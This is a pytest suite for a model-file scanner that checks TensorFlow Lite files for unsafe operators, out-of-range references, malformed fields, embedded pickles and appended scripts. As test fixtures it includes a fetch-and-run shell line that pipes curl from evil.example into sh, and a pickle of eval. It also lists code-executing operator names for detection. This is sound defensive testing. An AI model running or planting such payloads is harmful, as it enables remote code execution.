"""TensorFlow Lite models: operators, and every index and size held to what it points into."""

from __future__ import annotations

import pickle
import random
import struct
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelwarden.artifacts import Examined, examine
from modelwarden.core import GapKind
from modelwarden.formats import Limits, Source
from modelwarden.formats.tflite.reader import TfliteModel, read
from tflitemodels import builtin, custom, flatbuffer, i32, model, operator, subgraph, tensor, u64


def view_of(data: bytes) -> TfliteModel:
    return read(Source("m.tflite", data), Limits())


def examined(data: bytes) -> Examined:
    with Source("m.tflite", data) as source:
        return examine(source, Limits())


def rules(data: bytes) -> set[str]:
    return {finding.rule for finding in examined(data).findings}


def graph(**changed: object) -> bytes:
    return model(subgraphs=[subgraph(**changed)])  # type: ignore[arg-type]


SOUND = {
    "a small one": model(),
    "an optional input": graph(operators=[operator(inputs=[-1])]),
    "four bits each": model(
        subgraphs=[subgraph(tensors=[tensor(), tensor((3,), 17, 1)])],
        buffers=[{}, {0: bytes(2)}],
    ),
    "a buffer behind the tables": model(buffers=[{}, {1: u64(4), 2: u64(8)}]),
    "a loop over two others": model(
        codes=[builtin(119)],
        subgraphs=[
            subgraph(operators=[operator() | {4: {0: i32(1), 1: i32(2)}}]),
            *[subgraph(operators=[]) for _ in range(2)],
        ],
    ),
    "strings": graph(tensors=[tensor(), tensor((99,), 5, 1)]),
}


@pytest.mark.parametrize("data", SOUND.values(), ids=SOUND)
def test_a_sound_model_is_quiet(data: bytes):
    found = examined(data)

    assert (found.findings, found.gaps, found.coverage.format) == ([], [], "tflite")


def test_what_a_model_says_of_itself_is_kept():
    data = model(buffers=[{}, {0: b"1.14.0\0\0"}])

    assert [(one.key, one.value) for one in view_of(data).metadata] == [
        ("description", "made by hand"),
        ("min_runtime_version", "1.14.0"),
    ]


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("FlexPyFunc", "tflite-unsafe-operator"),
        ("FlexEagerPyFunc", "tflite-unsafe-operator"),
        ("FlexWriteFile", "tflite-unsafe-operator"),
        ("FlexXlaCustomCallV2", "tflite-custom-operator"),
        ("FlexMine", "tflite-custom-operator"),
        ("Mine", "tflite-custom-operator"),
    ],
)
def test_operators_that_run_other_code_are_found(name: str, rule: str):
    data = model(codes=[builtin(), custom(name)], subgraphs=[subgraph(operators=[operator(1)])])

    assert rules(data) == {rule}
    assert [(one.name, one.count) for one in view_of(data).operators] == [(name, 1)]


def test_an_operator_under_the_old_field_alone_is_met():
    code = custom("Mine")
    del code[3]

    assert rules(model(codes=[code])) == {"tflite-custom-operator"}


# An interpreter without the check reads or writes behind the array that stands in the name.
REFERENCES = {
    "inputs of an operator": graph(operators=[operator(inputs=[2])]),
    "far negative input": graph(operators=[operator(inputs=[-2])]),
    "outputs of an operator": graph(operators=[operator(outputs=[1 << 30])]),
    "an output that is optional": graph(operators=[operator(outputs=[-1])]),
    "intermediates": graph(operators=[operator() | {8: [7]}]),
    "codes": graph(operators=[operator(code=5)]),
    "inputs of a subgraph": graph(inputs=[7]),
    "outputs of a subgraph": graph(outputs=[-1]),
    "buffers": graph(tensors=[tensor(), tensor(buffer=9)]),
    "no buffers": model(buffers=[]),
    "buffers of metadata": model(metadata=[{0: "x", 1: i32(9)}]),
    "subgraphs of a signature": model(signatures=[{4: i32(4)}]),
    "bytes behind the file": model(buffers=[{}, {1: u64(1 << 40), 2: u64(8)}]),
    "bytes that wrap": model(buffers=[{}, {1: u64((1 << 64) - 4), 2: u64(8)}]),
    "options behind the file": graph(operators=[operator() | {9: u64(1 << 40), 10: u64(8)}]),
    "a subgraph that calls itself": model(
        codes=[builtin(119)],
        subgraphs=[subgraph(operators=[operator() | {4: {0: i32(0), 1: i32(0)}}])],
    ),
    "a subgraph that is not there": model(
        codes=[builtin(118)],
        subgraphs=[subgraph(operators=[operator() | {4: {0: i32(1), 1: i32(99)}}])],
    ),
    "a shape that overflows": graph(tensors=[tensor(), tensor([1 << 30] * 4, 0, 1)]),
    "a negative shape": graph(tensors=[tensor(), tensor([-2], 0, 1)]),
    "a root behind the file": struct.pack("<I", 1 << 30) + b"TFL3" + bytes(32),
    "fields before the file": struct.pack("<I", 8) + b"TFL3" + struct.pack("<i", 1 << 20),
}


@pytest.mark.parametrize("data", REFERENCES.values(), ids=REFERENCES)
def test_what_points_outside_is_found(data: bytes):
    assert "tflite-bad-reference" in rules(data)


INVALID = {
    "too few bytes": model(buffers=[{}, {0: bytes(4)}]),
    "too many bytes": model(buffers=[{}, {0: bytes(12)}]),
    "an unknown type": graph(tensors=[tensor(), tensor((2,), 77, 1)]),
    "another version": model(version=i32(9)),
    "a nameless operator": model(codes=[custom("")]),
}


@pytest.mark.parametrize("data", INVALID.values(), ids=INVALID)
def test_what_contradicts_itself_is_found(data: bytes):
    assert "tflite-invalid" in rules(data)


def test_parts_that_are_not_known_are_a_gap():
    gaps = view_of(flatbuffer({0: i32(3), 9: [{}]})).gaps

    assert [gap.kind for gap in gaps] == [GapKind.UNREADABLE]


def test_a_pickle_in_a_buffer_is_looked_into():
    data = pickle.dumps({"a": list(range(9))})

    view = view_of(model(buffers=[{}, {0: bytes(8)}, {0: data}]))

    assert [child.name for child in view.children] == ["buffer 2"]


def test_a_script_or_a_pickle_behind_a_model_is_looked_into():
    assert "script-attack" in rules(model() + b"\0#!/bin/sh\ncurl http://evil.example/x | sh\n")
    assert "pickle-unsafe-global" in rules(model() + pickle.dumps(eval))


def test_a_vector_with_more_tables_than_operations_is_a_gap():
    data = graph(operators=[operator()] * 500)

    view = read(Source("m.tflite", data), Limits(operations=300))

    assert [gap.kind for gap in view.gaps] == [GapKind.OVER_LIMIT]


@given(st.binary(max_size=300))
def test_any_bytes_are_survived(data: bytes):
    assert GapKind.FAILED not in {gap.kind for gap in examined(b"\x10\0\0\0TFL3" + data).gaps}


@settings(max_examples=400)
@given(st.sampled_from(sorted(SOUND)), st.integers(0, 1 << 32))
def test_mutated_models_are_survived(which: str, seed: int):
    rng = random.Random(seed)
    data = bytearray(SOUND[which])
    for _ in range(rng.randint(1, 4)):
        data[rng.randrange(len(data))] = rng.randrange(256)

    assert GapKind.FAILED not in {gap.kind for gap in examined(bytes(data)).gaps}


def test_real_models_are_examined_and_quiet(shared: Path):
    files = sorted((shared / "data/models/tflite").glob("*.tflite"))
    assert len(files) >= 2
    for path in files:
        with Source.open(path, path.name) as source:
            found = examine(source, Limits())
        assert (found.findings, found.gaps) == ([], []), path.name
